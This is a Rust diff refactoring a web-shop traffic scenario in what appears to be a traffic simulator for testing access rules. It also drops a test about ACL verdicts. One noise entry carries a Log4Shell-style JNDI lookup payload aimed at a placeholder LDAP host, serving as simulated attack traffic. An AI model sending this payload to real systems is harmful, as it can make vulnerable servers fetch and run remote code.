@@ -1,33 +1,38 @@
 //! A shop on the web: the background of most scenarios.
 
-use std::sync::{Arc, LazyLock};
+use std::sync::Arc;
 
 use super::Scene;
+use crate::catalog::Catalog;
+use crate::crew::Crew;
 use crate::kit::{self, BROWSERS};
-use crate::population::{Custom, Habits, Noise, Regulars, Target};
+use crate::plan::{Act, Audience};
+use crate::population::{Custom, Habits, Noise, Target};
 use crate::rules::Verdict;
 use crate::shape::Shape;
-use crate::timeline::Part;
 
 /// The shop's usual visitors, from begin to end.
-pub(super) fn visitors(scene: &Scene<'_>, shape: Shape) -> Part {
-    Part::background(scene.run, scene.people(1.0, shape), Regulars(habits()))
+pub(super) fn visitors(scene: &Scene, catalog: &mut Catalog, shape: Shape) -> Vec<Act> {
+    let crew = Crew::Regulars(habits(catalog));
+    let pace = scene.people(1.0, shape);
+    vec![Act::background(Audience::Everyone, scene.run, pace, crew)]
 }
 
 /// How the shop's visitors behave.
-pub(crate) fn habits() -> Arc<Habits> {
-    static HABITS: LazyLock<Arc<Habits>> = LazyLock::new(|| {
-        Habits::new(Custom {
-            targets: TARGETS,
-            kits: BROWSERS,
-            countries: COUNTRIES,
-            noise: NOISE,
-        })
-    });
-    HABITS.clone()
+pub(crate) fn habits(catalog: &mut Catalog) -> Arc<Habits> {
+    Habits::new(&CUSTOM, catalog)
 }
 
-const TARGETS: &[Target] = &[
+/// What distinguishes the shop's visitors.
+pub(crate) const CUSTOM: Custom<'static> = Custom {
+    targets: TARGETS,
+    target_weights: None,
+    kits: BROWSERS,
+    countries: COUNTRIES,
+    noise: NOISE,
+};
+
+const TARGETS: &[Target<'static>] = &[
     Target::get("/"),
     Target::numbered("/products/", 400),
     Target::get("/assets/app.js"),
@@ -115,16 +120,3 @@ const NOISE: &[Noise] = &[
         args: "q=${jndi:ldap://203.0.113.200/a}",
     },
 ];
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::acl::Profile;
-
-    #[test]
-    fn noise_is_decided_by_groups_that_the_acl_has() {
-        for noise in NOISE {
-            assert!(Profile::Website.can_decide(noise.verdict), "{noise:?}");
-        }
-    }
-}
